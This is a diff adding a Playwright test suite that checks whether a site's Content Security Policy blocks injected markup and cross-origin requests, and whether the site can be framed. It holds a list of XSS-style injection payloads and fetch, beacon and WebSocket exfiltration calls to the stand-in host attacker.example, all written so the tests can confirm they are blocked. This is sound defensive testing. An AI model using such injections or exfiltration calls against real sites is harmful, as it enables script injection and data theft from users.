@@ -1,0 +1,81 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../test.ts';
+
+const ATTACKER = 'https://attacker.example';
+
+/** What an injection would try, and the directive that blocks it. */
+const INJECTIONS: Record<string, string> = {
+  '<script>stolen = true</script>': 'script-src-elem',
+  [`<script src="${ATTACKER}/a.js"></script>`]: 'script-src-elem',
+  '<img src="data:," onerror="stolen = true">': 'script-src-attr',
+  '<style>main { display: none }</style>': 'style-src-elem',
+  '<p style="position: fixed">x</p>': 'style-src-attr',
+  [`<link rel="stylesheet" href="${ATTACKER}/a.css">`]: 'style-src-elem',
+  [`<base href="${ATTACKER}/">`]: 'base-uri',
+  [`<iframe src="${ATTACKER}/"></iframe>`]: 'frame-src',
+  [`<embed src="${ATTACKER}/a.pdf">`]: 'object-src',
+  [`<video src="${ATTACKER}/a.mp4"></video>`]: 'media-src',
+};
+
+for (const path of ['/', '/admin/login']) {
+  test(`${path} blocks whatever an injection would try`, async ({ page, logged }) => {
+    const reached = await watchRequestsTo(page, ATTACKER);
+    await page.goto(path);
+    for (const [markup, directive] of Object.entries(INJECTIONS)) {
+      expect(await violatedBy(page, markup), markup).toBe(directive);
+    }
+    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
+    expect(reached).toEqual([]);
+    logged.length = 0;
+  });
+
+  test(`${path} sends nothing to another origin`, async ({ page, logged }) => {
+    const reached = await watchRequestsTo(page, ATTACKER);
+    await page.goto(path);
+    await page.evaluate(async (origin) => {
+      await fetch(`${origin}/?stolen`).catch(() => undefined);
+      navigator.sendBeacon(`${origin}/?stolen`);
+      new WebSocket(origin.replace('https', 'wss')).close();
+    }, ATTACKER);
+    const blocked = () => logged.filter((line) => /^Connecting to '.*' violates/.test(line));
+    await expect.poll(blocked).toHaveLength(3);
+    expect(reached).toEqual([]);
+    logged.length = 0;
+  });
+}
+
+test('no other site can show the login in a frame', async ({ page, baseURL, logged }) => {
+  const attacker = 'http://127.0.0.1:7777/';
+  const body = `<iframe src="${baseURL}/admin/login"></iframe>`;
+  await page.route(attacker, (route) => route.fulfill({ contentType: 'text/html', body }));
+  await page.goto(attacker);
+  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
+  await expect.poll(() => frame?.url()).toBe('chrome-error://chromewebdata/');
+  logged.length = 0;
+});
+
+/** Puts the markup into the page as an injection would; returns the directive that it is said to violate. */
+async function violatedBy(page: Page, markup: string): Promise<string> {
+  return page.evaluate(
+    (html) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener(
+          'securitypolicyviolation',
+          (event) => resolve(event.effectiveDirective),
+          { once: true },
+        );
+        // Unlike innerHTML, a fragment of a range runs its scripts.
+        document.body.append(document.createRange().createContextualFragment(html));
+      }),
+    markup,
+  );
+}
+
+async function watchRequestsTo(page: Page, origin: string): Promise<string[]> {
+  const reached: string[] = [];
+  await page.route(`${origin}/**`, (route) => {
+    reached.push(route.request().url());
+    return route.abort();
+  });
+  return reached;
+}
